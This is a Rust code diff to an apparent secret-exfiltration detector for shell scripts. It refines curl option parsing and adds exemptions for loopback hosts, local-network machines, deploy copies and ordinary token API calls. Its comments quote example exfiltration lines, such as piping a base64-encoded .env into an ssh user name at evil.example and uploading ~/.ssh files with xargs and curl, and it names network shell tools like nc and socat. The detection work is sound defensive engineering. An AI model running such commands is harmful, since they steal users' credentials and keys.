@@ -737,6 +737,20 @@ fn sink_args(cmd: &Command) -> Option<SinkArgs<'_>> {
                     Some((o, v)) if o.starts_with("--") => (o, Some(v)),
                     _ => (a, None),
                 };
+                // Bundled switches end with the option that takes the value: `-sH`, `-fsSLo`.
+                let bundled;
+                let opt = match opt.strip_prefix('-') {
+                    Some(letters)
+                        if inline.is_none()
+                            && letters.len() > 1
+                            && !letters.starts_with('-')
+                            && letters.bytes().all(|b| b.is_ascii_alphabetic()) =>
+                    {
+                        bundled = format!("-{}", &letters[letters.len() - 1..]);
+                        bundled.as_str()
+                    }
+                    _ => opt,
+                };
                 if CURL_DATA.contains(&opt) {
                     let value = match inline {
                         Some(v) => Some((v.to_string(), &args[i])),
@@ -794,6 +808,13 @@ fn sink_args(cmd: &Command) -> Option<SinkArgs<'_>> {
             Some(s)
         }
         "nc" | "ncat" | "netcat" | "telnet" | "socat" | "cryptcat" => {
+            // `nc localhost 6379 <<< "AUTH $REDIS_PASSWORD"`: a local service.
+            let host = args
+                .iter()
+                .find(|a| !a.text.starts_with('-') && !a.text.contains(':'));
+            if name != "socat" && host.is_some_and(|h| is_loopback(&h.text)) {
+                return None;
+            }
             s.reads_stdin = true;
             s.payload.extend(args.iter());
             // socat's file addresses read the file itself (`FILE:~/.ssh/id_rsa`).
@@ -880,6 +901,10 @@ fn sink_args(cmd: &Command) -> Option<SinkArgs<'_>> {
                 } else if host_seen {
                     s.payload.push(&args[i]);
                 } else {
+                    // What goes to the user's own machine is not sent off it.
+                    if to_own_machine(&args[i].text) {
+                        return None;
+                    }
                     host_seen = true;
                     // `ssh "$(base64 -w0 .env)"@evil.example`: the user name goes out too.
                     if !args[i].subs.is_empty() {
@@ -932,11 +957,15 @@ fn sink_args(cmd: &Command) -> Option<SinkArgs<'_>> {
             // the remote shell.
             let positional = transfer_operands(name, args);
             let remote = positional.last().is_some_and(|d| is_remote_target(d));
-            if !remote {
+            // A copy to the team's own machine (`scp .env app01:/srv/app/`) is a deploy.
+            if !remote || positional.last().is_some_and(|d| to_own_machine(d)) {
                 return None;
             }
+            // Sources on another host (`scp -3 web01:/x web02:/y`) are not local files.
             for p in &positional[..positional.len().saturating_sub(1)] {
-                s.files.push(p.to_string());
+                if !is_remote_target(p) {
+                    s.files.push(p.to_string());
+                }
             }
             s.what = format!("`{name}` to {}", positional.last().copied().unwrap_or(""));
             Some(s)
@@ -1401,8 +1430,16 @@ fn analyze_with_copies(script: &Script, copies: std::collections::HashSet<String
             if fills {
                 keep(placeholder_source(wrapper).map(|what| (Secret::File, what)));
                 // `find ~/.ssh -type f | xargs -I% curl -F f=@% …`: what xargs reads names them.
+                // A token filled only into a header and sent to its own service is an API call
+                // (`gh auth token | xargs -I{} curl -H 'Authorization: Bearer {}' api.github.com`).
+                let header_only = !sink.payload.iter().any(|w| w.text.contains("{}"))
+                    && sink.meta.iter().any(|w| w.text.contains("{}"));
                 if let Some(w) = cmd.wrapped_by {
-                    keep(upstream.before(script, w, wrapper));
+                    keep(upstream.before(script, w, wrapper).filter(|(_, what)| {
+                        !(header_only
+                            && what.ends_with("(prints credentials)")
+                            && printed_for_its_vendor(what, &sink.payload))
+                    }));
                 }
             }
         }
@@ -1425,8 +1462,14 @@ fn analyze_with_copies(script: &Script, copies: std::collections::HashSet<String
                 .find(|r| r.op == "<" && secret_at(cmd, &r.target.text))
                 .map(|r| (Secret::File, r.target.text.clone())),
         );
+        // Under xargs the piped text becomes arguments (judged with the wrapper above).
+        let under_xargs = cmd
+            .wrapped_by
+            .and_then(|w| script.commands.get(w))
+            .is_some_and(|w| w.name() == "xargs");
         if (sink.reads_stdin || !cmd.pipes.is_empty() && cmd.stdin_text.is_none())
             && !ignores_stdin(cmd)
+            && !under_xargs
         {
             keep(upstream.before(script, idx, cmd));
         }
@@ -1515,6 +1558,13 @@ fn analyze_with_copies(script: &Script, copies: std::collections::HashSet<String
 /// `-K -`): piping into them otherwise sends nothing — unless a variable in their arguments
 /// carries what was piped (`… | while read h; do curl x.example/$h; done`).
 fn ignores_stdin(cmd: &Command) -> bool {
+    // `gh auth token | docker login ghcr.io -u "$(…)" --password-stdin`: the password goes to
+    // the registry named; only a name or address computed on the line is judged.
+    if matches!(cmd.name(), "docker" | "podman" | "helm" | "mosh")
+        && cmd.args().iter().any(|a| a.text == "--password-stdin")
+    {
+        return true;
+    }
     matches!(cmd.name(), "curl" | "wget")
         && !cmd.args().iter().any(|a| {
             let t = a.text.as_str();
@@ -1539,6 +1589,40 @@ fn to_cluster_api(payload: &[&Word]) -> bool {
 /// A loopback host (a local proxy or model server holds the key legitimately).
 fn is_loopback(host: &str) -> bool {
     matches!(host, "localhost" | "[::1]") || host.starts_with("127.")
+}
+
+/// An ssh-style target (`user@host:path`, `host`) naming the user's own machines: loopback, a
+/// short name from `~/.ssh/config` or the local network (`app01`, `web1`), or a name under a
+/// private suffix (`db.internal`, `nas.lan`, `pi.local`). Addresses and public names are not.
+fn to_own_machine(target: &str) -> bool {
+    let host = target.split_once("://").map_or(target, |x| x.1);
+    let host = host.rsplit_once('@').map_or(host, |x| x.1);
+    let host = host
+        .split([':', '/'])
+        .next()
+        .unwrap_or("")
+        .to_ascii_lowercase();
+    if host.is_empty() || host.starts_with('$') {
+        return false;
+    }
+    let short = !host.contains('.')
+        && !host.bytes().all(|b| b.is_ascii_digit())
+        && host
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
+    is_loopback(&host)
+        || short
+        || [
+            ".internal",
+            ".lan",
+            ".local",
+            ".localdomain",
+            ".home.arpa",
+            ".corp",
+            ".intranet",
+        ]
+        .iter()
+        .any(|s| host.ends_with(s))
 }
 
 /// What `xargs` fills `{}` with when that is a secret: the lines of a credential file
@@ -1569,7 +1653,7 @@ fn url_host(text: &str) -> Option<String> {
         .bytes()
         .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b'[' | b']'))
         && !host.starts_with(['.', '-']);
-    (host.contains('.') && hostlike).then_some(host)
+    ((host.contains('.') || host == "localhost") && hostlike).then_some(host)
 }
 
 /// The archive file a `tar`/`zip`/`7z` command writes when it packs a secret or the home
